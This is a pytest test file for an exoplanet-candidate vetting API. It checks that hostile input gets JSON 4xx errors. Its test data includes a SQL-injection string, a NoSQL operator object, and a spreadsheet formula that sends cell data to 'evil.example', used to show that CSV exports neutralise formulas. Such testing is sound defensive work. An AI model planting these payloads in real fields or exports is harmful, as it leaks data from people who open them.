"""Hostile input on every endpoint: the JSON error body with a 4xx, never HTML, never a 5xx.

The endpoints, their parameters and which lists are cursor-paginated are read from the live
OpenAPI schema, so a new endpoint is covered without being named here. Tests named
``test_issue12_defect<N>_...`` reproduce the numbered defects of issue 12.
"""
from __future__ import annotations

import base64
import io
import json
from pathlib import Path

import pytest
from django.test import Client
from rest_framework.authtoken.models import Token

from tests.api.helpers import error_of, token_client

# --- helpers ------------------------------------------------------------------------------------


@pytest.fixture
def raw_client(curator):
    """A Django test Client with the curator's token that answers 5xx instead of raising, so a
    test sees what a real client would (the response), HTML or not."""
    client = Client(raise_request_exception=False)
    client.defaults["HTTP_AUTHORIZATION"] = f"Token {Token.objects.get_or_create(user=curator)[0].key}"
    return client


@pytest.fixture
def world(curator, vetter, make_candidate, make_version, predict):
    """A few candidates with predictions of an active version, labels and an open dispute."""
    from vetting.reviews.services import dispute_open, label_create

    version = make_version("v1", active=True)
    candidates = [make_candidate() for _ in range(4)]
    for i, cand in enumerate(candidates):
        predict(cand, version, 0.2 + 0.2 * i, uncertainty=0.1 * (i + 1))
    labels = [label_create(candidate=cand, vetter=curator, label_class="PC", note=f"n{i}")
              for i, cand in enumerate(candidates)]  # the curator's own: raw_client may change them
    dispute_open(candidate=candidates[0], opened_by=vetter, reason="looks like an EB", model_version="v1")
    return {"version": version, "candidates": candidates, "labels": labels}


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_json_error(response, *, status: int | None = None, field: str | None = None) -> dict:
    """A 4xx with the documented error body (and the field named, if given)."""
    assert response["Content-Type"].startswith("application/json"), (response.status_code, body_of(response)[:200])
    if status is not None:
        assert response.status_code == status, (response.status_code, body_of(response)[:300])
    assert 400 <= response.status_code < 500, (response.status_code, body_of(response)[:300])
    error = error_of(response)
    if field is not None:
        assert field in error["fields"], error
    return error


def assert_no_server_error(response) -> None:
    assert response.status_code < 500, (response.status_code, body_of(response)[:300])
    if response.status_code >= 400:
        assert_json_error(response)


@pytest.fixture
def schema(anon_client) -> dict:
    return anon_client.get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()


def get_operations(schema: dict) -> list[tuple[str, dict]]:
    """(path with ids filled in as 1, operation) for every GET operation of the schema."""
    return [(path.replace("{id}", "1"), item["get"]) for path, item in schema["paths"].items() if "get" in item]


def cursor_lists(schema: dict) -> list[str]:
    return [path for path, op in get_operations(schema)
            if any(p["name"] == "cursor" for p in op.get("parameters", []))]


def lists_and_exports(schema: dict) -> list[tuple[str, list[str]]]:
    """Every GET endpoint without a path id (lists, the queue, exports), with its query parameters."""
    return [(path, [p["name"] for p in op.get("parameters", []) if p["in"] == "query"])
            for path, op in get_operations(schema) if "{id}" not in path and path != "/api/me/"]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# --- 5: cursors ---------------------------------------------------------------------------------

CRAFTED_CURSORS = [
    b64("p=abc"), b64("p=%00"), b64("p=" + "9" * 40), b64("p=1e999"), b64("o=abc"), b64("r=x"), b64("o=-5&p=1"),
    b64("p=2026-13-45"), b64("p=None"), "not base64!", "%%%", "é", "A" * 5000, b64("p=" + "1" * 5000),
]


def test_issue12_defect5_crafted_cursor_on_every_cursor_list_is_json_404(raw_client, world, schema):
    lists = cursor_lists(schema)
    assert len(lists) >= 7, lists  # candidates, targets, labels, disputes, predictions, runs, imports
    for path in lists:
        for cursor in CRAFTED_CURSORS:
            error = assert_json_error(raw_client.get(path, {"cursor": cursor}), status=404, field="cursor")
            assert error["code"] == "invalid_cursor"


def test_cursor_of_another_ordering_is_404_and_real_cursors_work(raw_client, world):
    first = raw_client.get("/api/candidates/", {"ordering": "-p_planet", "page_size": 2}).json()
    cursor = first["next"].split("cursor=")[1].split("&")[0]
    second = raw_client.get(first["next"])
    assert second.status_code == 200 and second.json()["results"]
    # A p_planet position (a float) on a list ordered by created_at, or by id: not this list's cursor.
    for ordering in ("-created_at", "-id"):
        assert_json_error(raw_client.get(f"/api/candidates/?ordering={ordering}&cursor={cursor}"), status=404,
                          field="cursor")
    for ordering in ("-p_planet", "-uncertainty", "-priority", "period_days", "-snr", "-created_at", "-id"):
        page = raw_client.get("/api/candidates/", {"ordering": ordering, "page_size": 1}).json()
        if page["next"]:
            assert raw_client.get(page["next"]).status_code == 200, ordering


# --- 5: any byte in any query parameter -------------------------------------------------------

HOSTILE_VALUES = ["\x00", "a\x00b", "", "9" * 400, "x" * 5000, "-1", "1e999", "NaN", "' OR 1=1 --", "١٢"]


def test_issue12_defect5_any_byte_in_any_query_parameter_is_never_a_server_error(raw_client, world, schema):
    endpoints = lists_and_exports(schema)
    assert any(path.startswith("/api/exports/") for path, _ in endpoints)
    for path, params in endpoints:
        for name in [*params, "classifier_version", "unknown_param"]:
            for value in HOSTILE_VALUES:
                assert_no_server_error(raw_client.get(path, {name: value}))


def test_issue12_defect5_nul_in_classifier_version_is_json_400(raw_client, world):
    for path in ("/api/predictions/", "/api/exports/predictions.csv", "/api/exports/predictions.json"):
        assert_json_error(raw_client.get(path, {"classifier_version": "v1\x00"}), status=400,
                          field="classifier_version")


def test_raw_invalid_utf8_and_nul_in_query_string(raw_client, world):
    for query in ("vetter=%ff%fe", "vetter=%00", "%00=1", "candidate=%c0%80", "cursor=%ff", "ordering=%00"):
        assert_no_server_error(raw_client.get(f"/api/labels/?{query}"))
    assert_json_error(raw_client.get("/api/labels/?%00=1"), status=400)
    # No API parameter takes several values: given twice, it is an error, not a silent pick.
    assert_json_error(raw_client.get("/api/labels/?candidate=1&candidate=2"), status=400, field="candidate")
    assert_json_error(raw_client.get("/api/candidates/?ordering=id&ordering=-id"), status=400, field="ordering")


def test_too_many_query_parameters_is_json_400(raw_client, settings, world):
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 10
    assert_json_error(raw_client.get("/api/labels/?" + "&".join(f"a{i}=1" for i in range(20))), status=400)


# --- 5: JSON shapes and sizes -------------------------------------------------------------------

POST_ENDPOINTS = ["/api/labels/", "/api/disputes/", "/api/disputes/1/comments/", "/api/disputes/1/resolve/"]


def _post_endpoints(world) -> list[tuple[str, str]]:
    from vetting.reviews.models import Dispute

    dispute = Dispute.objects.first().pk
    label = world["labels"][0].pk
    return [("post", "/api/labels/"), ("post", "/api/disputes/"), ("post", f"/api/disputes/{dispute}/comments/"),
            ("post", f"/api/disputes/{dispute}/resolve/"), ("put", f"/api/labels/{label}/"),
            ("patch", f"/api/labels/{label}/"), ("post", "/api/training-runs/")]


def test_issue12_defect5_deeply_nested_json_is_400_not_recursion_error(raw_client, world):
    for method, path in _post_endpoints(world):
        for body in ("[" * 5000 + "]" * 5000, '{"a":' * 3000 + "1" + "}" * 3000,
                     '{"note": ' + "[" * 40 + '"x"' + "]" * 40 + "}"):
            response = getattr(raw_client, method)(path, body, content_type="application/json")
            if path == "/api/training-runs/":  # takes no body: a 202 is fine too
                assert_no_server_error(response)
                continue
            assert_json_error(response, status=400)


JSON_SHAPES = [
    "[]", "[1, 2]", "null", "1", '"text"', "true", "{", '{"candidate": NaN}', '{"candidate": Infinity}',
    '{"candidate": {"$gt": 0}}', '{"candidate": [1]}', '{"candidate": 1e400}',
    '{"candidate": 123456789012345678901234}',
    '{"candidate": -1}', '{"candidate": 0}', '{"label_class": ["PC"]}', '{"confidence": "1"}', '{"confidence": 1e400}',
    '{"note": "\\u0000"}', '{"note": "\\ud800"}', '{"reason": "\\u0000"}', '{"text": {"a": 1}}', '{"label": true}',
    '{"resolved_class": null}', '{"seconds_spent": -1e400}', '{"disputed_class": 5}', "\xff\xfe",
    '{"note": 0}', '{"confidence": false}', '{"reason": " "}', '{"model_version": []}',
]


def test_any_json_shape_on_every_write_is_a_4xx_or_accepted(raw_client, world):
    for body in JSON_SHAPES:
        for method, path in _post_endpoints(world):
            response = getattr(raw_client, method)(path, body, content_type="application/json")
            assert_no_server_error(response)


def test_issue12_defect5_json_body_over_the_limit_is_json_413(raw_client, settings, world):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    cand = world["candidates"][0].pk
    big = json.dumps({"candidate": cand, "label_class": "PC", "note": "x" * 20_000})
    assert_json_error(raw_client.post("/api/labels/", big, content_type="application/json"), status=413)
    # The same when the declared length is small and the body is read (as DRF does) from the stream.
    assert_json_error(raw_client.post("/api/disputes/", big, content_type="application/json"), status=413)


def test_unsupported_media_types_and_accept_headers_answer_json(raw_client, world):
    for content_type in ("application/xml", "text/plain", "image/png", "application/json-patch+json", "bogus"):
        response = raw_client.post("/api/labels/", "<a/>", content_type=content_type)
        assert_json_error(response, status=415)
    for accept in ("text/html", "text/csv", "application/xml", "image/png"):
        response = raw_client.get("/api/labels/?ordering=nope", HTTP_ACCEPT=accept)
        assert_no_server_error(response)
        assert response["Content-Type"].startswith("application/json")
    # A broken multipart body (no boundary) on the upload endpoint.
    response = raw_client.post("/api/imports/", b"--x\r\n", content_type="multipart/form-data")
    assert_json_error(response, status=400)
    response = raw_client.post("/api/labels/", b'{"candidate": 1}', content_type="application/json",
                               CONTENT_TYPE="application/json; charset=bogus")  # (the test client cannot encode it)
    assert_no_server_error(response)


def test_issue12_defect7_chunked_body_without_content_length_is_read(raw_client, world):
    """A chunked request (no Content-Length; the WSGI server de-chunks it and says so with
    ``wsgi.input_terminated``) is read, for JSON and for a multipart upload."""
    from vetting.reviews.models import Label

    cand = world["candidates"][1].pk
    body = json.dumps({"candidate": cand, "label_class": "EB", "note": "chunked"}).encode()
    chunked = {"CONTENT_LENGTH": "", "HTTP_TRANSFER_ENCODING": "chunked", "wsgi.input_terminated": True}
    response = raw_client.post("/api/labels/", body, content_type="application/json",
                               **chunked, **{"wsgi.input": io.BytesIO(body)})
    assert response.status_code == 201, response.content
    assert Label.objects.get(pk=response.json()["id"]).note == "chunked"

    from django.test.client import encode_multipart

    csv = b"kepid,kepoi_name,koi_period,koi_time0bk,koi_duration,koi_depth\n1,K09999.01,3.1,130.2,2.5,800\n"
    form = encode_multipart("BOUNDARY", {"kind": "catalog", "file": _named(csv, "koi.csv")})
    response = raw_client.post("/api/imports/", form, content_type="multipart/form-data; boundary=BOUNDARY",
                               **chunked, **{"wsgi.input": io.BytesIO(form)})
    assert response.status_code != 400 or "No file was submitted" not in response.content.decode(), response.content
    assert_no_server_error(response)


def test_chunked_body_over_the_limit_is_413_and_unterminated_is_411(raw_client, settings, world):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    body = json.dumps({"candidate": world["candidates"][0].pk, "label_class": "PC", "note": "y" * 5000}).encode()
    chunked = {"CONTENT_LENGTH": "", "HTTP_TRANSFER_ENCODING": "chunked", "wsgi.input_terminated": True}
    response = raw_client.post("/api/labels/", body, content_type="application/json", **chunked,
                               **{"wsgi.input": io.BytesIO(body)})
    assert_json_error(response, status=413)
    response = raw_client.post("/api/labels/", body, content_type="application/json", CONTENT_LENGTH="",
                               HTTP_TRANSFER_ENCODING="chunked", **{"wsgi.input": io.BytesIO(body)})
    assert_json_error(response, status=411)
    response = raw_client.post("/api/labels/", b"{}", content_type="application/json", CONTENT_LENGTH="12abc")
    assert_json_error(response, status=400)


def _named(data: bytes, name: str):
    upload = io.BytesIO(data)
    upload.name = name
    return upload


# --- 7: paths, methods, ordering, page sizes ----------------------------------------------------


def test_issue12_defect7_post_without_trailing_slash_is_json_404_not_csrf_page(vetter, world):
    token = token_client(vetter)
    session = Client(enforce_csrf_checks=True, raise_request_exception=False)
    session.force_login(vetter)
    anonymous = Client(enforce_csrf_checks=True, raise_request_exception=False)
    for client in (token, session, anonymous):
        for method in ("post", "put", "patch", "delete", "get"):
            response = getattr(client, method)("/api/labels", {"label_class": "PC"}, content_type="application/json")
            error = assert_json_error(response, status=404)
            assert "/api/labels/" in error["message"]  # says which path was meant
    assert_json_error(anonymous.post("/api/candidates/1/lightcurve"), status=404)


def test_unknown_methods_are_json_405_or_404(raw_client, world):
    for method in ("PURGE", "TRACE", "FOO", "DELETE", "PUT"):
        assert_json_error(raw_client.generic(method, "/api/candidates/"), status=405)
        assert_json_error(raw_client.generic(method, "/api/nowhere/"), status=404)


def test_path_ids_are_digits_only(raw_client, world):
    cand = world["candidates"][0].pk
    assert raw_client.get(f"/api/candidates/{cand}/").status_code == 200
    for bad in (f"+{cand}", f"{cand}.0", f"%20{cand}", "0x1", "1e0", "-1", "%00", "٣", "9" * 30):
        assert_json_error(raw_client.get(f"/api/candidates/{bad}/"), status=404)


def test_issue12_defect7_unknown_ordering_and_bad_page_size_are_400_on_every_list(raw_client, world, schema):
    lists = [(path, op) for path, op in get_operations(schema) if "{id}" not in path
             and any(p["name"] == "ordering" for p in op.get("parameters", []))]
    # Every list documents its orderings (targets, candidates, labels, disputes, versions, predictions,
    # training runs, imports).
    assert len(lists) >= 8, [p for p, _ in lists]
    for path, op in lists:
        allowed = next(p for p in op["parameters"] if p["name"] == "ordering")["schema"]["enum"]
        for value in allowed:
            assert raw_client.get(path, {"ordering": value}).status_code == 200, (path, value)
        for value in ("zzz", "-nope", "id,-id", "--id", "catalog_score", " id"):
            assert_json_error(raw_client.get(path, {"ordering": value}), status=400, field="ordering")
    for path in cursor_lists(schema):
        for value in ("abc", "0", "-1", "501", "1.5", "1e2", " 5", "١٢", "9" * 30):
            assert_json_error(raw_client.get(path, {"page_size": value}), status=400, field="page_size")
        page = raw_client.get(path, {"page_size": "1"})
        assert page.status_code == 200 and len(page.json()["results"]) <= 1


# --- 6: ids -------------------------------------------------------------------------------------


def test_issue12_defect6_float_id_never_labels_another_candidate(raw_client, world):
    from vetting.reviews.models import Label

    target = world["candidates"][2]
    before = Label.objects.count()
    for value in (target.pk + 0.9, target.pk + 0.0, float(target.pk), True, False, f"{target.pk}.0",
                  f"{target.pk}.9", f" {target.pk}", f"+{target.pk}", "1e0", [target.pk], {"id": target.pk}):
        response = raw_client.post("/api/labels/", {"candidate": value, "label_class": "EB"},
                                   content_type="application/json")
        assert_json_error(response, status=400, field="candidate")
    assert Label.objects.count() == before
    # Exactly integral strings are ids (a form or a script that quotes its numbers).
    ok = raw_client.post("/api/labels/", {"candidate": str(target.pk), "label_class": "EB"},
                         content_type="application/json")
    assert ok.status_code == 201 and ok.json()["candidate"] == target.pk


def test_ids_in_dispute_bodies_are_strict(raw_client, world):
    cand, label = world["candidates"][0], world["labels"][0]
    for field, value in (("candidate", cand.pk + 0.5), ("label", label.pk + 0.5), ("label", True),
                         ("candidate", "1.0")):
        body = {"candidate": cand.pk, "reason": "no", "label": label.pk, field: value}
        assert_json_error(raw_client.post("/api/disputes/", body, content_type="application/json"), status=400,
                          field=field)
    missing = raw_client.post("/api/disputes/", {"candidate": cand.pk, "label": 999999, "reason": "no"},
                              content_type="application/json")
    assert_json_error(missing, status=404, field="label")


def test_id_filters_are_strict(raw_client, world):
    cand = world["candidates"][0].pk
    for path, name in (("/api/labels/", "candidate"), ("/api/disputes/", "candidate"),
                       ("/api/predictions/", "candidate"), ("/api/candidates/", "target"),
                       ("/api/exports/labels.csv", "candidate"), ("/api/exports/predictions.csv", "candidate")):
        for bad in (f"{cand}.9", f"{cand}.0", f"+{cand}", "١", "1e0", "0", "-1", "9" * 25, "true"):
            assert_json_error(raw_client.get(path, {name: bad}), status=400, field=name)
        assert raw_client.get(path, {name: str(cand)}).status_code == 200
    assert_json_error(raw_client.get(f"/api/candidates/{cand}/lightcurve/", {"lightcurve": "1.5"}), status=400,
                      field="lightcurve")


# --- 8: CSV exports -----------------------------------------------------------------------------


def test_issue12_defect8_label_export_neutralises_formulas(world, django_user_model, curator):
    from django.contrib.auth.models import Group

    from vetting.reviews.services import label_create

    sneaky = django_user_model.objects.create_user(username="-sneaky", password="x")
    sneaky.groups.add(Group.objects.get(name="vetter"))
    cand = world["candidates"][3]
    label_create(candidate=cand, vetter=sneaky, label_class="PC",
                 note='=HYPERLINK("http://evil.example/?"&A1,"click")')
    csv_text = body_of(token_client(curator).get("/api/exports/labels.csv")).decode()
    assert "'=HYPERLINK(" in csv_text
    assert "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text and ',"=HYPERLINK' not in csv_text
    assert ",'-sneaky," in csv_text  # a username is a cell like any other


def test_prediction_export_neutralises_formulas(world, curator, make_version, predict):
    version = make_version("@SUM(1+1)", active=False)
    predict(world["candidates"][0], version, 0.5)
    csv_text = body_of(token_client(curator).get("/api/exports/predictions.csv",
                                                 {"classifier_version": "@SUM(1+1)"})).decode()
    assert "'@SUM(1+1)" in csv_text and ",@SUM" not in csv_text


# --- 9: dispute classes -------------------------------------------------------------------------


def test_issue12_defect9_dispute_classes_are_null_not_blank(raw_client, world):
    rows = raw_client.get("/api/disputes/").json()["results"]
    assert rows
    for row in rows:
        for field in ("disputed_class", "proposed_class", "resolved_class"):
            assert row[field] is None or row[field] in ("PC", "EB", "BEB", "V", "IS", "J"), row
    cand = world["candidates"][1].pk
    for value in (None, "", "EB"):
        response = raw_client.post("/api/disputes/", {"candidate": cand, "reason": "r", "model_version": "v1",
                                                      "proposed_class": value}, content_type="application/json")
        assert response.status_code == 201, response.content
        assert response.json()["proposed_class"] == (value or None)


@pytest.mark.slow
def test_issue12_defect7_chunked_requests_under_gunicorn(transactional_db, curator, make_candidate, tmp_path):
    """The production server (gunicorn) de-chunks a body sent without Content-Length; the API
    reads it (a label is created), and a chunked body over the limit is a JSON 413."""
    import http.client
    import os
    import socket
    import subprocess
    import sys
    import time

    from django.db import connection

    from tests.conftest import REPO_ROOT
    from vetting.reviews.models import Label

    cand = make_candidate()
    token = Token.objects.get_or_create(user=curator)[0].key
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    db = connection.settings_dict
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "vetting.settings.test",
           "TEST_DATABASE_URL": f"postgres://{db['USER']}@{db['HOST']}:{db['PORT']}/{db['NAME']}"}
    server = subprocess.Popen([str(Path(sys.executable).parent / "gunicorn"), "vetting.wsgi:application", "-b",
                               f"127.0.0.1:{port}", "-w", "1"], cwd=REPO_ROOT, env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def post_chunked(chunks: list[bytes]) -> tuple[int, dict]:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        conn.request("POST", "/api/labels/", body=iter(chunks), encode_chunked=True,
                     headers={"Authorization": f"Token {token}", "Content-Type": "application/json"})
        response = conn.getresponse()
        return response.status, json.loads(response.read())

    try:
        for _ in range(100):  # up to 20 s for the worker to boot
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.2)
        body = json.dumps({"candidate": cand.pk, "label_class": "EB", "note": "sent in chunks"}).encode()
        status, data = post_chunked([body[:10], body[10:25], body[25:]])
        assert status == 201, data
        assert Label.objects.get(pk=data["id"]).note == "sent in chunks"
        big = json.dumps({"candidate": cand.pk, "label_class": "EB", "note": "x" * (11 * 1024 * 1024)}).encode()
        status, data = post_chunked([big[i:i + 1024 * 1024] for i in range(0, len(big), 1024 * 1024)])
        assert status == 413 and data["error"]["code"] == "payload_too_large"
    finally:
        server.terminate()
        server.wait(timeout=30)
